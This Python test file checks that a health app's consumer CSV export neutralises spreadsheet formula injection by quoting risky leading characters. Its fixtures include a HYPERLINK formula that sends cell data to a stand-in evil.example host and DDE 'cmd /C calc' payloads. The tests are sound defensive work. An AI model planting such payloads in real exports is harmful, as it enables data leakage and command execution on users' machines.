"""No cell of the consumers CSV starts a formula (OWASP "CSV Injection"): users' names, ids and
e-mails that begin with = + - @ tab or carriage return come out with a leading `'`, on both
views, on both backends, over HTTP from the real app."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import httpx

from healthgraph.csv_export import CONSUMER_COLUMNS, SYNC_COLUMNS
from tests.demo_server import Server
from tests.factories import GraphFactory

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "\rx",
)
CREATED = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
UPDATED = datetime(2026, 2, 3, 4, 5, 6, 7, tzinfo=UTC)
EVIL_CONNECTOR = "=cmd|' /C calc'!A0"
EVIL_SYNC = "@SUM(A1:A9)"


def hostile(index: int) -> str:
    return HOSTILE[index % len(HOSTILE)]


async def seed(demo: Server) -> None:
    """One consumer per hostile text (as its id, and rotated into its name and e-mail), with an
    activation of a sync whose name and required connector's name are hostile too."""
    async with demo.database.sessions.begin() as session:
        graph = GraphFactory(session)
        connector = await graph.connector("evil", EVIL_CONNECTOR)
        sync = await graph.sync(EVIL_SYNC, [connector])
        for index in range(len(HOSTILE)):
            consumer = await graph.consumer(hostile(index), hostile(index + 1))
            consumer.email = hostile(index + 2)
            consumer.created_at = CREATED
            activation = await graph.activation(sync, consumer, mapping=False)
            activation.updated_at = UPDATED


async def table(demo: Server, token: str, view: str) -> list[list[str]]:
    async with httpx.AsyncClient(base_url=demo.base_url) as client:
        response = await client.get(
            "/export/consumers.csv",
            params={"view": view},
            headers={"Authorization": f"Bearer {token}"},
        )
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    starts = [
        (n, cell) for n, row in enumerate(rows) for cell in row if cell and cell[0] in "=+-@\t\r"
    ]
    assert starts == []


async def test_by_connections_neutralises_every_hostile_cell(demo: Server, reader: str) -> None:
    await seed(demo)
    rows = await table(demo, reader, "connections")
    assert rows[0] == list(CONSUMER_COLUMNS)
    assert_no_formula(rows)
    ours = [row for row in rows if row[0].startswith("'")]
    assert ours == [
        [
            "'" + hostile(index),
            "'" + hostile(index + 1),
            "'" + hostile(index + 2),
            "false",
            "0",
            "Nothing: no connection process was initiated",
            "2026-01-02T03:04:05+00:00",
        ]
        for index in range(len(HOSTILE))
    ]


async def test_by_syncs_neutralises_every_hostile_cell(demo: Server, reader: str) -> None:
    await seed(demo)
    rows = await table(demo, reader, "syncs")
    assert rows[0] == list(SYNC_COLUMNS)
    assert_no_formula(rows)
    ours = [row for row in rows if row[0].startswith("'")]
    assert ours == [
        [
            "'" + hostile(index),
            "'" + hostile(index + 1),
            "'" + EVIL_SYNC,
            "false",
            "true",
            "false",
            "true",
            "NO_CONNECTION",
            # Inside a cell a formula character is harmless text: left as it is.
            f"No connection: required connections are missing ({EVIL_CONNECTOR})",
            "2026-02-03T04:05:06.000007+00:00",
        ]
        for index in range(len(HOSTILE))
    ]


async def test_ordinary_cells_are_written_as_they_are(demo: Server, reader: str) -> None:
    """Timestamps, counts, booleans and plain names keep their exact text: only a formula's
    first character earns the quote."""
    async with demo.database.sessions.begin() as session:
        graph = GraphFactory(session)
        consumer = await graph.consumer("plain-1", "O'Brien = Sons")
        consumer.email = "a-b@example.com"
        consumer.created_at = CREATED
    rows = await table(demo, reader, "connections")
    assert [row for row in rows if row[0] == "plain-1"] == [
        [
            "plain-1",
            "O'Brien = Sons",
            "a-b@example.com",
            "false",
            "0",
            "Nothing: no connection process was initiated",
            "2026-01-02T03:04:05+00:00",
        ]
    ]
